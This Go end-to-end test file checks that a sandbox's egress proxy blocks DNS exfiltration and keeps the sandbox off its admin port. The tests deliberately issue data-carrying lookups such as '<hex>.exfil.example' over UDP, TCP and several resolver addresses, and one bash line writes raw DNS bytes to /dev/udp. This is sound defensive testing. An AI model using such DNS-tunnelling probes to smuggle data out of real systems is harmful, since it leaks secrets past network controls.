//go:build e2e

package e2e

import (
	"bufio"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/miekg/dns"

	"keyhole.dev/keyhole/proxy"
)

// recordingResolver stands for the pod's resolvers: it records the name
// and type of every query it gets, over UDP and TCP, and answers each as
// a forwarding resolver would (an A record, 198.18.0.3 unless answers
// says otherwise), so that a query that reached it would be a leak.
type recordingResolver struct {
	datagrams atomic.Int32 // every UDP datagram, DNS or not
	mu        sync.Mutex
	names     []string
	types     []string          // the type of each of names' queries
	answers   map[string]net.IP // lower-case name with its dot: its A record
}

// setAnswer makes name's A record ip.
func (r *recordingResolver) setAnswer(name string, ip net.IP) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.answers == nil {
		r.answers = map[string]net.IP{}
	}
	r.answers[name] = ip
}

// newRecordingResolver serves on addr, UDP and TCP, in the calling
// thread's network namespace.
func newRecordingResolver(t testing.TB, addr string) *recordingResolver {
	r := &recordingResolver{}
	pc, err := net.ListenPacket("udp", addr)
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { pc.Close(); ln.Close() })
	go func() {
		buf := make([]byte, 4096)
		for {
			n, from, err := pc.ReadFrom(buf)
			if err != nil {
				return
			}
			r.datagrams.Add(1)
			if reply := r.answer(buf[:n]); reply != nil {
				pc.WriteTo(reply, from)
			}
		}
	}()
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				c.SetDeadline(time.Now().Add(5 * time.Second))
				var l [2]byte
				if _, err := io.ReadFull(c, l[:]); err != nil {
					return
				}
				msg := make([]byte, binary.BigEndian.Uint16(l[:]))
				if _, err := io.ReadFull(c, msg); err != nil {
					return
				}
				if reply := r.answer(msg); reply != nil {
					c.Write(append(binary.BigEndian.AppendUint16(nil, uint16(len(reply))), reply...))
				}
			}()
		}
	}()
	return r
}

func (r *recordingResolver) answer(raw []byte) []byte {
	q := new(dns.Msg)
	if q.Unpack(raw) != nil || len(q.Question) == 0 {
		return nil
	}
	name := strings.ToLower(q.Question[0].Name)
	r.mu.Lock()
	r.names = append(r.names, name)
	r.types = append(r.types, dns.TypeToString[q.Question[0].Qtype])
	ip := r.answers[name]
	r.mu.Unlock()
	if ip == nil {
		ip = net.IPv4(198, 18, 0, 3)
	}
	m := new(dns.Msg)
	m.SetReply(q)
	if q.Question[0].Qtype == dns.TypeA {
		m.Answer = []dns.RR{&dns.A{Hdr: dns.RR_Header{Name: q.Question[0].Name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 60}, A: ip}}
	}
	b, _ := m.Pack()
	return b
}

func (r *recordingResolver) seen() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]string(nil), r.names...)
}

// questions returns each query it got as "name TYPE".
func (r *recordingResolver) questions() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	q := make([]string, len(r.names))
	for i, n := range r.names {
		q[i] = n + " " + r.types[i]
	}
	return q
}

// TestTransparentDNS: in the sandbox's network namespace, names that
// carry data get NXDOMAIN from the proxy, by every path to port 53, and
// the pod's resolver (which records every query) sees none of them;
// an allowed name resolves to the proxy's fixed address, and a connection
// there reaches the upstream through the proxy with the credential. The
// proxy's own user still reaches the resolver.
func TestTransparentDNS(t *testing.T) {
	bash := requireTool(t, "bash")
	setpriv := requireTool(t, "setpriv")
	getent := requireTool(t, "getent")
	n := newNetnsSandbox(t) // with a pod's resolv.conf: search list, ndots:5
	sfx := make([]byte, 8)
	rand.Read(sfx)
	data := hex.EncodeToString(sfx)

	// The proxy's user is exempt: its query reaches the resolver, which
	// shows the resolver records what reaches it.
	ctl := new(dns.Msg)
	ctl.SetQuestion("control-"+data+".keyhole.test.", dns.TypeA)
	raw, err := ctl.Pack()
	if err != nil {
		t.Fatal(err)
	}
	var esc strings.Builder
	for _, b := range raw {
		fmt.Fprintf(&esc, `\x%02x`, b)
	}
	uid := fmt.Sprint(proxyUID)
	if out, err := n.run([]string{"PATH=/usr/bin:/bin"}, n.pub, setpriv, "--reuid", uid, "--regid", uid, "--clear-groups", "--", bash, "-c",
		"printf '"+esc.String()+"' >/dev/udp/198.18.0.1/53"); err != nil {
		t.Fatalf("the proxy user's query: %v\n%s", err, out)
	}
	eventually(t, "the resolver recording the proxy user's query", func() bool {
		for _, name := range n.resolver.seen() {
			if strings.HasPrefix(name, "control-"+data) {
				return true
			}
		}
		return false
	})

	// The sandbox (root, any client) looks up names that carry data.
	if out, err := n.run([]string{"PATH=/usr/bin:/bin"}, n.pub, getent, "ahostsv4", data+".exfil.example"); err == nil {
		t.Errorf("getent resolved %s.exfil.example: %s", data, out)
	}
	type lookup struct {
		net, server, name string
		qtype             uint16
	}
	refused := []lookup{
		{"udp", "198.18.0.1:53", data + "-udp.exfil.example.", dns.TypeA},
		{"tcp", "198.18.0.1:53", data + "-tcp.exfil.example.", dns.TypeTXT},
		{"udp", "198.18.0.3:53", data + "-other.exfil.example.", dns.TypeA},
		{"udp", "127.0.0.1:53", data + "-loopback.exfil.example.", dns.TypeA},
		{"udp", "198.18.0.1:53", data + ".api.github.com.", dns.TypeA},
	}
	var allowed *dns.Msg
	inNetns(t, n.nsSb, func() {
		c := func(network string) *dns.Client { return &dns.Client{Net: network, Timeout: 5 * time.Second} }
		for _, l := range refused {
			q := new(dns.Msg)
			q.SetQuestion(l.name, l.qtype)
			r, _, err := c(l.net).Exchange(q, l.server)
			if err != nil {
				t.Errorf("%s to %s for %s: %v", l.net, l.server, l.name, err)
				continue
			}
			if r.Rcode != dns.RcodeNameError || len(r.Answer) != 0 {
				t.Errorf("%s to %s for %s: %v, want NXDOMAIN", l.net, l.server, l.name, r)
			}
		}
		q := new(dns.Msg)
		q.SetQuestion("api.github.com.", dns.TypeA)
		r, _, err := c("udp").Exchange(q, "198.18.0.1:53")
		if err != nil {
			t.Errorf("api.github.com: %v", err)
			return
		}
		allowed = r
	})
	if allowed == nil || allowed.Rcode != dns.RcodeSuccess || len(allowed.Answer) != 1 {
		t.Fatalf("api.github.com: %v, want one answer", allowed)
	}
	a, ok := allowed.Answer[0].(*dns.A)
	if !ok || a.A.String() != proxy.DNSAnswerAddr {
		t.Fatalf("api.github.com resolves to %v, want %s", allowed.Answer[0], proxy.DNSAnswerAddr)
	}

	// The sandbox connects to the address it was given, by the name it
	// asked for: redirected, dialled by name, injected.
	before := len(n.api.requests())
	dial, stop := nsDialer(t, n.nsSb)
	defer stop()
	conn, err := dial(net.JoinHostPort(a.A.String(), "443"))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(10 * time.Second))
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM(n.w.sandboxCA.CertPEM)
	tc := tls.Client(conn, &tls.Config{ServerName: "api.github.com", RootCAs: roots})
	if _, err := io.WriteString(tc, "GET /repos/acme/widgets HTTP/1.1\r\nHost: api.github.com\r\nConnection: close\r\n\r\n"); err != nil {
		t.Fatal(err)
	}
	resp, err := http.ReadResponse(bufio.NewReader(tc), nil)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("status %d through the resolved address", resp.StatusCode)
	}
	seen := n.api.requests()[before:]
	if len(seen) != 1 || seen[0].Header.Get("Authorization") != "Bearer "+n.w.token {
		t.Fatalf("the upstream saw %d requests, or no credential", len(seen))
	}

	// The resolver saw the proxy user's query and nothing of the
	// sandbox's; the proxy logged each refused name.
	time.Sleep(100 * time.Millisecond) // a datagram in flight lands
	for _, name := range n.resolver.seen() {
		if !strings.HasPrefix(name, "control-"+data) {
			t.Errorf("the pod's resolver got a query for %s", name)
		}
	}
	logs := n.logs.String()
	for _, l := range refused {
		if !strings.Contains(logs, `"name":"`+strings.ToLower(l.name)+`"`) {
			t.Errorf("no log line for %s", l.name)
		}
	}
	if !strings.Contains(logs, `"name":"`+data+`.exfil.example.agents.svc.cluster.local.","type":"A","decision":"refuse","reason":"name-not-allowed"`) {
		t.Errorf("no log line for getent's first search-list candidate")
	}
}

// TestTransparentAdminPort: the sandbox cannot reach the proxy's admin
// port, on loopback or the pod's address; the node (the kubelet's
// probes) can.
func TestTransparentAdminPort(t *testing.T) {
	n := newNetnsSandbox(t)
	get := func(addr string) (int, error) {
		c, err := net.DialTimeout("tcp", addr, 5*time.Second)
		if err != nil {
			return 0, err
		}
		defer c.Close()
		c.SetDeadline(time.Now().Add(5 * time.Second))
		if _, err := io.WriteString(c, "GET /healthz HTTP/1.1\r\nHost: probe\r\nConnection: close\r\n\r\n"); err != nil {
			return 0, err
		}
		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
		if err != nil {
			return 0, err
		}
		resp.Body.Close()
		return resp.StatusCode, nil
	}
	for _, addr := range []string{"127.0.0.1:9090", "198.18.0.2:9090", "[::1]:9090"} {
		inNetns(t, n.nsSb, func() {
			if status, err := get(addr); !errors.Is(err, syscall.ECONNREFUSED) {
				t.Errorf("the sandbox to %s: status %d, error %v; want the connection refused", addr, status, err)
			}
		})
	}
	inNetns(t, n.nsUp, func() {
		if status, err := get("198.18.0.2:9090"); err != nil || status != http.StatusOK {
			t.Errorf("the node's probe: status %d, error %v; want 200", status, err)
		}
	})
	// The proxy port on loopback stays the sandbox's.
	inNetns(t, n.nsSb, func() {
		c, err := net.DialTimeout("tcp", "127.0.0.1:3128", 5*time.Second)
		if err != nil {
			t.Errorf("the sandbox to the proxy port: %v", err)
			return
		}
		c.Close()
	})
}
